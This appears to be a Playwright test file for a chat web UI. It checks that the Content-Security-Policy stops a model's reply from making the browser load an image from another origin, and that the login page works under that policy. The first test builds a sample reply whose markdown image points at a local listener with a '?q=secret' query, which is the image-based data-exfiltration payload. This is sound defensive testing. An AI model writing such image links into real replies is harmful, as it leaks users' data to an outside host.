"""The Content-Security-Policy in a real browser (issue #17): the UI loads and works with
no policy violation, and an image in a model's reply cannot make the browser fetch
another host (here a listener on another port of this machine, a different origin)."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser

TIMEOUT_MS = 60_000


@pytest.fixture
def other_host() -> Iterator[tuple[str, list[str]]]:
    """An HTTP listener on another origin that records every path it is asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def test_a_reply_cannot_make_the_browser_fetch_another_host(
    page: Page, running_ui, model_server, other_host
):
    url, asked = other_host
    violations: list[str] = []
    page.on(
        "console",
        lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None,
    )
    inline = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    reply = f"Here: ![leak]({url}/leak.gif?q=secret) and an inline one: ![ok]({inline})"
    model_server.tool("response", {"text": reply})
    page.goto(running_ui.url)
    page.get_by_test_id("send-input").fill("show me")
    page.get_by_test_id("send-button").click()
    answer = page.get_by_test_id("log-response").locator(".content")
    expect(answer.locator("img")).to_have_count(2, timeout=TIMEOUT_MS)
    # the browser settles both images: the data: one loads, the foreign one is refused
    page.wait_for_function(
        "[...document.querySelectorAll('.msg.response img')].every(i => i.complete)",
        timeout=TIMEOUT_MS,
    )
    assert asked == []
    assert any("img-src" in v for v in violations), violations  # refused by the policy
    assert not [v for v in violations if "img-src" not in v], violations


def test_the_login_page_works_under_the_policy(page: Page, ui_server, model_server):
    from tests.support.ui_server import SLOW_START, ui_env_for

    ui_server.env.update(ui_env_for(model_server))
    ui_server.env.update({"AUTH_LOGIN": "ann", "AUTH_PASSWORD": "s3cret"})
    ui_server.start(timeout=SLOW_START)
    violations: list[str] = []
    page.on(
        "console",
        lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None,
    )
    page.goto(f"{ui_server.url}/login?error=1")
    expect(page.locator("#login-error")).to_be_visible(timeout=TIMEOUT_MS)  # its script ran
    page.fill("#login-user", "ann")
    page.fill("#login-password", "s3cret")
    page.click("#login-submit")
    expect(page.get_by_test_id("send-input")).to_be_visible(timeout=TIMEOUT_MS)
    assert violations == []
